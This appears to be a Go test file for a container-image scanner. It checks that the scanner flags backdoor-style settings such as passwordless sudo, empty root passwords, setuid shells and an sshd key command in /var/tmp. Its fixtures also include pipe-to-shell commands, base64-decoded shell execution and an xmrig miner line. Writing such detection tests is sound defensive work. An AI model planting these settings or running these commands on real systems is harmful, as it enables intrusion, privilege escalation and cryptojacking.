package binary

import (
	"archive/tar"
	"fmt"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
)

// notable says settings in short: severity code, without those that say that the image runs as root.
func notable(i inspect.Image) []string {
	var list []string
	for _, s := range i.Notable {
		if s.Code != "user-root" {
			list = append(list, fmt.Sprintf("%s %s", s.Severity, s.Code))
		}
	}
	slices.Sort(list)
	return list
}

func TestOtherPlacesToHide(t *testing.T) {
	_, base := debian()
	for name, test := range map[string]struct {
		members []member
		want    []string
	}{
		"everyone is root":                {[]member{file("etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD: ALL\n")}, []string{"medium sudo"}},
		"nobody is root, by doas":         {[]member{file("etc/doas.conf", "permit nopass nobody as root\n")}, []string{"medium sudo"}},
		"a group is asked, by doas":       {[]member{file("etc/doas.conf", "permit persist :wheel\n")}, []string{"low sudo"}},
		"one command":                     {[]member{file("etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD: /usr/bin/id\n")}, []string{"low sudo"}},
		"root without a password":         {[]member{file("etc/shadow", "root::19000:0:99999:7:::\n")}, []string{"medium open-account"}},
		"root with a known password":      {[]member{file("etc/shadow", "root:$6$a$b:19000:0:99999:7:::\n")}, []string{"medium open-account"}},
		"locked accounts":                 {[]member{file("etc/shadow", "root:*:19000:0:99999:7:::\napp:!:19000::::::\nx:!!:1::::::\n")}, nil},
		"sshd without passwords":          {[]member{file("etc/ssh/sshd_config", "PermitEmptyPasswords yes\n")}, []string{"medium open-account"}},
		"sshd asks a program in /var/tmp": {[]member{file("etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysCommand /var/tmp/.k %u\n")}, []string{"high open-account"}},
		"sshd as it is shipped":           {[]member{file("etc/ssh/sshd_config", "#PermitEmptyPasswords no\nUsePAM yes\nAuthorizedKeysFile .ssh/authorized_keys\n")}, nil},
		"rights of root":                  {[]member{file("etc/sudoers.d/x", "x ALL=NOPASSWD: ALL\n")}, []string{"low sudo"}},
		"a second root":                   {[]member{file("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")}, []string{"medium uid-0"}},
		"a repository and its key":        {[]member{file("etc/apt/sources.list.d/x.list", "deb x\n"), file("etc/apt/keyrings/x.gpg", "k")}, []string{"info repository", "info repository"}},
		"a shell with rights of root":     {[]member{exe("usr/bin/bash", program("bash")).WithMode(0o4755)}, []string{"high setuid-shell"}},
		"a directory of programs for all": {[]member{dir("usr/local/"), dir("usr/local/bin/").WithMode(0o777)}, []string{"low world-writable"}},
		"a setting for all":               {[]member{file("etc/app.conf", "x").WithMode(0o666)}, []string{"low world-writable"}},
		"a device":                        {[]member{special("opt/mem", tar.TypeChar)}, []string{"low device"}},
		"a device in its place":           {[]member{special("dev/null", tar.TypeChar)}, nil},
		"a link out of the image":         {[]member{symlink("opt/x", "../../../host/etc")}, []string{"low odd-layer"}},
		"links that stay":                 {[]member{symlink("opt/x", "../host"), symlink("usr/lib/y", "../../opt/../z"), symlink("z", "/usr/../opt")}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			c := newBench(t).examine(t, imageOf(t, v1.Config{}, base, step("RUN x", test.members...)), nil)
			if got := notable(c.Images[0]); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
			for _, s := range c.Images[0].Notable {
				found := slices.ContainsFunc(c.Findings, func(f inspect.Finding) bool { return f.Code == s.Code })
				if found != (s.Severity.Rank() <= inspect.Medium.Rank()) {
					t.Errorf("%s %s: finding %v", s.Severity, s.Code, found)
				}
			}
		})
	}
}

func TestSettingsOfTheConfig(t *testing.T) {
	_, base := debian()
	for name, test := range map[string]struct {
		config v1.Config
		step   string
		want   []string
	}{
		"calm": {v1.Config{Env: []string{"PATH=/usr/bin", "LD_PRELOAD="}, Entrypoint: []string{"/usr/bin/ls"}}, "", nil},
		"what starts by itself is listed elsewhere": {v1.Config{Env: []string{"LD_PRELOAD=/lib/x.so"}, Cmd: []string{"sh", "-c", "echo aGk= | base64 -d | sh"}}, "", nil},
		"PATH where all may write":                  {v1.Config{Env: []string{"PATH=/tmp/bin:/usr/bin"}}, "", []string{"medium env-path"}},
		"a trigger":                                 {v1.Config{OnBuild: []string{"RUN make"}}, "", []string{"low on-build"}},
		"ports":                                     {v1.Config{ExposedPorts: map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}}, "", []string{"info port"}},
		"labels":                                    {v1.Config{Labels: map[string]string{"org.opencontainers.image.title": "x", "run": "curl http://x.example | sh", "more": "echo aGk= | base64 -d | sh"}}, "", []string{"medium label-encoded", "medium label-pipe-to-shell"}},
		"volumes":                                   {v1.Config{Volumes: map[string]struct{}{"/data": {}, "/usr/bin/": {}}}, "", []string{"low volume"}},
		"history: an installer":                     {v1.Config{}, "RUN /bin/sh -c curl -fsSL https://deb.example/setup | bash -", []string{"low history-pipe-to-shell"}},
		"history: decoded":                          {v1.Config{}, "RUN echo aGk= | base64 -d > /x", []string{"low history-decodes"}},
		"history: decoded, run":                     {v1.Config{}, "RUN echo aGk= | base64 -d | sh", []string{"medium history-encoded"}},
		"history: a miner":                          {v1.Config{}, "RUN ./xmrig -o stratum+tcp://pool.example", []string{"medium history-miner"}},
		"a secret":                                  {v1.Config{Env: []string{"PATH=/usr/bin", "NPM_TOKEN=" + value}}, "", []string{"low env-secret"}},
		"history: a secret":                         {v1.Config{}, "|1 NPM_TOKEN=" + value + " /bin/sh -c npm ci", []string{"low history-secret"}},
		"history: another shape":                    {v1.Config{}, "RUN cat list | sort | shuf", nil},
	} {
		t.Run(name, func(t *testing.T) {
			c := newBench(t).examine(t, imageOf(t, test.config, base, layerSpec{Step: test.step}), nil)
			if got := notable(c.Images[0]); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
			unsaid(t, c, value)
			for _, f := range c.Findings {
				if f.Severity != inspect.Medium || len(f.Evidence) == 0 || !strings.HasPrefix(f.Evidence[0].Digest, "sha256:") {
					t.Errorf("finding %+v", f)
				}
			}
		})
	}
}

// A chmod leaves the content of a packaged program as it was: only the image before shows it.
func TestPrivilegesThatAreNew(t *testing.T) {
	_, base := debian()
	before := imageOf(t, v1.Config{}, base, step("COPY", exe("opt/su", program("su")).WithMode(0o4755)))
	now := imageOf(t, v1.Config{}, base, step("COPY", exe("opt/su", program("su")).WithMode(0o4755)),
		step("RUN chmod", exe("usr/bin/ls", program("ls")).WithMode(0o4755), exe("opt/new", program("new")).WithMode(0o2755)))
	c := newBench(t).examine(t, now, &inspect.KnownGood{Reference: before, Location: before})
	if got, want := notable(c.Images[0]), []string{"high new-privilege", "medium new-privilege", "medium raised-privilege"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	var titles []string
	for _, f := range c.Findings {
		if f.Code == "new-privilege" {
			titles = append(titles, f.Title)
		}
	}
	slices.Sort(titles)
	want := []string{"/opt/new has setgid; the previous image does not have the file", "/usr/bin/ls has setuid, which it does not have in the previous image"}
	if !slices.Equal(titles, want) {
		t.Errorf("got %q, want %q", titles, want)
	}
}
